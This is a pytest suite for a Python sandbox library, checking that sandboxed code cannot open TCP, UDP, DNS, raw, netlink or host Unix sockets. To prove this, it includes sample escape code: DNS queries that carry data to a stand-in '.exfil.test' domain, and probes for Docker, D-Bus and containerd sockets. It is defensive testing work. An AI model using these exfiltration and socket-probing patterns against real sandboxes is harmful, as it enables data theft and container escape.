"""Network egress: no TCP, UDP, DNS, raw, packet or netlink socket leaves the sandbox, and no
host Unix socket (abstract or path) is reachable.

Each case runs the same code twice: unsandboxed (the control: the listener the test owns sees
the connection or the datagram, the socket is created) and sandboxed (refused, fast, and the
listener sees nothing).
"""

from __future__ import annotations

import contextlib
import os
import socket
import struct
import time
import uuid
from collections.abc import Iterator
from typing import Any

import pytest
import securepy

pytestmark = pytest.mark.sandbox

ROOT = os.geteuid() == 0
FAST = 3.0  # seconds: a refused connection must fail fast, not by timing out


def _connect_code(family: str, address: tuple[str, int] | str | bytes) -> str:
    return f"""
import socket
try:
    s = socket.socket(socket.{family}, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect({address!r})
    s.sendall(b"attack")
    s.close()
    r = "connected"
except OSError as e:
    r = "blocked"
r
"""


@pytest.fixture
def tcp_listener() -> Iterator[socket.socket]:
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("0.0.0.0", 0))
    listener.listen(8)
    listener.setblocking(False)
    yield listener
    listener.close()


def _accepted(listener: socket.socket, *, wait: float = 0.0) -> bytes | None:
    """Data of a connection the listener got, or None when nobody connected."""
    listener.settimeout(wait) if wait else listener.setblocking(False)
    try:
        conn, _ = listener.accept()
    except (BlockingIOError, TimeoutError):
        return None
    with conn:
        conn.settimeout(5)
        return conn.recv(100)


def _host_address() -> str:
    """The host's non-loopback address (no packet is sent to find it)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
            address = probe.getsockname()[0]
        except OSError:
            return "127.0.0.2"
    return address if not address.startswith("127.") else "127.0.0.2"


@pytest.mark.parametrize(
    "target", ["loopback", "host-interface"], ids=["tcp-loopback-listener", "tcp-host-interface"]
)
def test_tcp_to_a_host_listener_is_refused(
    target: str,
    tcp_listener: socket.socket,
    shared: securepy.Session,
    control: securepy.Session,
    host: Any,
) -> None:
    port = tcp_listener.getsockname()[1]
    address = ("127.0.0.1", port) if target == "loopback" else (_host_address(), port)
    code = _connect_code("AF_INET", address)

    assert host.value(control, code) == "connected"
    assert _accepted(tcp_listener, wait=5) == b"attack"

    started = time.monotonic()
    assert host.value(shared, code) == "blocked"
    assert time.monotonic() - started < FAST
    assert _accepted(tcp_listener) is None


def test_tcp_to_an_external_address_is_refused_fast(
    tcp_listener: socket.socket, shared: securepy.Session, control: securepy.Session, host: Any
) -> None:
    # Control: the same code reaches an address that exists without the internet (the test's
    # listener); the tests never send anything past the machine.
    port = tcp_listener.getsockname()[1]
    assert host.value(control, _connect_code("AF_INET", ("127.0.0.1", port))) == "connected"
    assert _accepted(tcp_listener, wait=5) == b"attack"
    started = time.monotonic()
    assert host.value(shared, _connect_code("AF_INET", ("8.8.8.8", 53))) == "blocked"
    assert time.monotonic() - started < FAST


def test_tcp_over_ipv6_loopback_is_refused(
    shared: securepy.Session, control: securepy.Session, host: Any
) -> None:
    try:
        listener = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        listener.bind(("::1", 0))
    except OSError:
        listener = None
    if listener is None:  # no IPv6 here: the sandboxed attempt must still fail
        assert host.value(shared, _connect_code("AF_INET6", ("::1", 1))) == "blocked"
        return
    with listener:
        listener.listen(4)
        code = _connect_code("AF_INET6", ("::1", listener.getsockname()[1]))
        assert host.value(control, code) == "connected"
        assert _accepted(listener, wait=5) == b"attack"
        assert host.value(shared, code) == "blocked"
        assert _accepted(listener) is None


def _dns_query(name: str) -> bytes:
    header = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return header + labels + b"\0" + struct.pack(">HH", 1, 1)


@pytest.mark.parametrize("payload", ["datagram", "dns-query"], ids=["udp-loopback", "dns-query"])
def test_udp_to_a_host_socket_is_refused(
    payload: str, shared: securepy.Session, control: securepy.Session, host: Any
) -> None:
    # A fake resolver on 127.0.0.1 stands for any DNS server: a query would exfiltrate data
    # in the name it asks for.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver:
        receiver.bind(("127.0.0.1", 0))
        port = receiver.getsockname()[1]
        data = b"attack" if payload == "datagram" else _dns_query(f"{uuid.uuid4().hex}.exfil.test")
        code = f"""
import socket
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto({data!r}, ("127.0.0.1", {port}))
    r = "sent"
except OSError:
    r = "blocked"
r
"""
        assert host.value(control, code) == "sent"
        receiver.settimeout(5)
        assert receiver.recv(512) == data
        assert host.value(shared, code) == "blocked"
        receiver.setblocking(False)
        with pytest.raises(BlockingIOError):
            receiver.recv(512)


def test_name_resolution_fails_fast(
    shared: securepy.Session, control: securepy.Session, host: Any
) -> None:
    code = """
import socket
try:
    r = sorted({a[4][0] for a in socket.getaddrinfo("localhost", 80, socket.AF_INET)})
except OSError as e:
    r = "unresolved"
r
"""
    assert host.value(control, code) == ["127.0.0.1"]
    started = time.monotonic()
    assert host.value(shared, code) == "unresolved"
    exfil = f"socket.getaddrinfo('{uuid.uuid4().hex}.exfil.test', 80)"
    outcome = host.run(shared, f"import socket\n{exfil}")
    assert outcome.error_type == "ExecutionError" and "gaierror" in str(outcome.error)
    assert time.monotonic() - started < FAST


SOCKET_KINDS = {
    "raw-icmp-socket": ("AF_INET", "SOCK_RAW", 1),
    "raw-ipv6-socket": ("AF_INET6", "SOCK_RAW", 58),
    "packet-socket": ("AF_PACKET", "SOCK_RAW", 0x0300),
    "udp6-socket": ("AF_INET6", "SOCK_DGRAM", 0),
    "netlink-route-socket": ("AF_NETLINK", "SOCK_RAW", 0),
}


@pytest.mark.parametrize("kind", list(SOCKET_KINDS), ids=list(SOCKET_KINDS))
def test_raw_packet_and_netlink_sockets_are_refused(
    kind: str, shared: securepy.Session, control: securepy.Session, host: Any
) -> None:
    family, type_, proto = SOCKET_KINDS[kind]
    code = f"""
import socket
try:
    socket.socket(socket.{family}, socket.{type_}, {proto}).close()
    r = "created"
except OSError as e:
    r = "blocked"
r
"""
    if ROOT:  # the control needs CAP_NET_RAW for raw and packet sockets
        assert host.value(control, code) == "created"
    assert host.value(shared, code) == "blocked"


def _unix_connect_code(address: str | bytes) -> str:
    return _connect_code("AF_UNIX", address)


@pytest.mark.parametrize(
    "where",
    ["abstract", "/tmp", "/run"],
    ids=["abstract-unix-socket", "path-unix-socket-tmp", "path-unix-socket-run"],
)
def test_host_unix_sockets_are_unreachable(
    where: str, shared: securepy.Session, control: securepy.Session, host: Any
) -> None:
    name = f"securepy-listener-{uuid.uuid4().hex[:8]}"
    address: str | bytes = f"\0{name}" if where == "abstract" else f"{where}/{name}.sock"
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        listener.bind(address)
        listener.listen(4)
        listener.setblocking(False)
        code = _unix_connect_code(address)
        assert host.value(control, code) == "connected"
        assert _accepted(listener, wait=5) == b"attack"
        assert host.value(shared, code) == "blocked"
        assert _accepted(listener) is None
    finally:
        listener.close()
        if isinstance(address, str) and not address.startswith("\0"):
            with contextlib.suppress(FileNotFoundError):
                os.unlink(address)


SYSTEM_SOCKETS = (
    "/run/docker.sock",
    "/var/run/docker.sock",
    "/run/dbus/system_bus_socket",
    "/var/run/dbus/system_bus_socket",
    "/run/systemd/private",
    "/run/containerd/containerd.sock",
    "/run/postgresql/.s.PGSQL.5432",
)


def test_docker_dbus_and_other_system_sockets_are_absent(
    shared: securepy.Session, control: securepy.Session, host: Any
) -> None:
    code = f"""
import os
r = {{"run": os.path.isdir("/run") or os.path.isdir("/var/run"),
     "found": [p for p in {SYSTEM_SOCKETS!r} if os.path.exists(p)]}}
r
"""
    on_host = [p for p in SYSTEM_SOCKETS if os.path.exists(p)]
    assert host.value(control, code) == {"run": True, "found": on_host}
    assert host.value(shared, code) == {"run": False, "found": []}
